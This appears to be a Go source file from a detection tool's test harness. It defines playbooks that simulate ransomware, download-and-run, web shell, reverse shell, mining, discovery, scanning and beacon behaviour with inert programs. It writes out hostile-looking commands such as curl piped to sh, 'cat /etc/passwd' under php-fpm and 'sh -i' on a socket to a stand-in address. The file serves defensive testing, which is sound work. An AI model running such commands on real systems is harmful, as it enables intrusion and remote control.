package simulate

import (
	"fmt"
	"strings"
)

// ofBehaviours are the playbooks of what no single event shows. Left out are those
// that need sign-ins, which the sensor does not see yet.
func ofBehaviours() []Playbook {
	peer := part{Do: "connect", Host: "203.0.113.9", Port: 4444}
	command := func(line string) program { return program{Image: "/bin/bash", Arguments: []string{"bash", "-c", line}} }
	return []Playbook{
		{"ransomware", []string{"vigil-ransomware"}, "makes forty files in a directory of its own and renames each to NAME.locked", Lack{}, func(s *stage) error {
			return s.event("/tmp/locker", nil, part{Do: "lock", Path: "/tmp/vigil-files"})
		}},
		{"ransomware-in-place", []string{"vigil-ransomware"}, "makes forty texts in a directory of its own, and lets a program called locker put chance in their place, names unchanged", Lack{}, func(s *stage) error {
			return s.run("", program{Image: "/tmp/locker", Held: true, Part: part{Do: "overwrite", Path: "/tmp/vigil-texts/report"}})
		}},
		{"download-execute", []string{"vigil-download-execute"}, "writes a program that does nothing as curl would, and runs it", Lack{}, func(s *stage) error {
			if err := s.event("/usr/bin/curl", nil, part{Do: "copy", Path: "/tmp/vigil-downloaded"}); err != nil {
				return err
			}
			return s.run("", program{Image: "/tmp/vigil-downloaded"})
		}},
		{"download-pipe", []string{"vigil-download-pipe"}, "runs a program that does nothing as curl would run, piped into a shell that does nothing", Lack{}, func(s *stage) error {
			return s.pipe(program{Image: "/usr/bin/curl", Arguments: []string{"curl", "-fsS", "http://vigil.example/setup"}}, program{Image: "/bin/sh"})
		}},
		{"web-shell", []string{"vigil-web-shell"}, "runs a shell that does nothing, told to show the password file, below a program called php-fpm", Lack{}, func(s *stage) error {
			return s.run("/usr/sbin/php-fpm8.2", command("cat /etc/passwd"))
		}},
		{"reverse-shell", []string{"vigil-reverse-shell", "vigil-shell-socket"}, "connects within a network of its own and runs a shell that does nothing on the socket", Lack{}, func(s *stage) error {
			p := peer
			p.Then = &program{Image: "/bin/sh", Arguments: []string{"sh", "-i"}, Socket: true}
			return s.event("/usr/bin/python3", nil, p)
		}},
		{"reverse-shell-pipes", []string{"vigil-reverse-shell-pipes"}, "connects within a network of its own and runs a shell that does nothing on pipes", Lack{}, func(s *stage) error {
			p := peer
			p.Then = &program{Image: "/bin/sh", Arguments: []string{"sh", "-i"}, Pipes: true}
			return s.event("/usr/bin/python3", nil, p)
		}},
		{"mining", []string{"vigil-mining", "vigil-miner-process"}, "runs a program that does nothing with a miner's arguments", Lack{}, func(s *stage) error {
			return s.run("", program{Image: "/usr/sbin/httpd", Arguments: []string{"httpd", "-o", "stratum+tcp://pool.vigil.example:3333"}})
		}},
		{"anomalous-case", []string{"vigil-anomalous-case"}, "runs a shell that does nothing with letters of mixed case", Lack{}, func(s *stage) error {
			return s.run("", command("$(echo WgEt hTtP://vigil.example | tr A-Z a-z)"))
		}},
		{"discovery-burst", []string{"vigil-discovery-burst"}, "runs ten programs that do nothing under the names of those that explore a host", Lack{}, func(s *stage) error {
			for name := range strings.FieldsSeq("whoami id uname hostname ps ss w df lsmod ip") {
				if err := s.run("", program{Image: "/usr/bin/" + name}); err != nil {
					return err
				}
			}
			return nil
		}},
		{"weak-signals", []string{"vigil-weak-signals"}, "below a program called cron: one is hidden, schedules, connects and deletes itself, all on file systems and a network of its own", Lack{}, func(s *stage) error {
			x := program{Image: "/tmp/.vigil/x", Copied: true, Part: part{Do: "delete", Path: "/tmp/.vigil/x"}}
			for _, p := range []part{peer, {Do: "create", Path: "/etc/cron.d/vigil"}, {Do: "chmod", Text: "755", Path: "/tmp/vigil-marked"}} {
				next := x
				p.Then = &next
				x = program{Image: "/tmp/.vigil/x", Copied: true, Part: p}
			}
			return s.run("/usr/sbin/cron", x)
		}},
		{"privilege-gained", []string{"vigil-privilege-gained"}, "lets one thread become nobody, and another, which stayed root, run a program that does nothing: nobody seems to become root", Lack{}, func(s *stage) error {
			return s.event("/usr/bin/exploit", nil, part{Do: "rise", Then: &program{Image: "/tmp/vigil-risen"}})
		}},
		{"port-scan", []string{"vigil-port-scan"}, "tries eighty ports within a network of its own", Lack{}, func(s *stage) error {
			return s.event("/usr/bin/scan", nil, part{Do: "scan", Host: peer.Host, Port: 80})
		}},
		{"port-sweep", []string{"vigil-port-sweep"}, "tries one port of eighty addresses within a network of its own", Lack{}, func(s *stage) error {
			return s.event("/usr/bin/scan", nil, part{Do: "sweep", Host: "198.51.100.9", Port: 22})
		}},
		{"beacon", []string{"vigil-beacon"}, "connects thirteen times, five seconds apart, within a network of its own", Lack{}, func(s *stage) error {
			return s.event("/usr/bin/agent", nil, part{Do: "call", Host: peer.Host, Port: 443})
		}},
		{"port-probe", []string{"vigil-port-probe"}, "lets one address in at eight ports within a network of its own", Lack{}, func(s *stage) error {
			return s.event("/usr/sbin/server", nil, part{Do: "probe", Host: "198.51.100.9", From: "198.51.100.10", Port: 7000})
		}},
		{"intelligence-domain", []string{"vigil-intelligence-domain"}, "asks for malware.vigil.example within a network of its own; needs Indicators among the lists", Lack{}, func(s *stage) error {
			return s.event("/usr/bin/agent", nil, part{Do: "ask", Text: "malware.vigil.example"})
		}},
		{"intelligence-address", []string{"vigil-intelligence-address"}, "connects to 203.0.113.66 within a network of its own; needs Indicators among the lists", Lack{}, func(s *stage) error {
			return s.event("/usr/bin/agent", nil, part{Do: "connect", Host: "203.0.113.66", Port: 443})
		}},
		{"intelligence-guest", []string{"vigil-intelligence-guest"}, "lets 203.0.113.66 in within a network of its own; needs Indicators among the lists", Lack{}, func(s *stage) error {
			return s.event("/usr/sbin/server", nil, part{Do: "let_in", Host: "203.0.113.65", From: "203.0.113.66", Port: 7000})
		}},
		{"intelligence-download", []string{"vigil-intelligence-download"}, "connects to 203.0.113.66 within a network of its own as curl would; needs Indicators among the lists", Lack{}, func(s *stage) error {
			return s.event("/usr/bin/curl", nil, part{Do: "connect", Host: "203.0.113.66", Port: 80})
		}},
	}
}

// String is the playbook in a line.
func (p Playbook) String() string {
	return fmt.Sprintf("%s: %s (%s)", p.Name, p.Does, strings.Join(p.Rules, ", "))
}
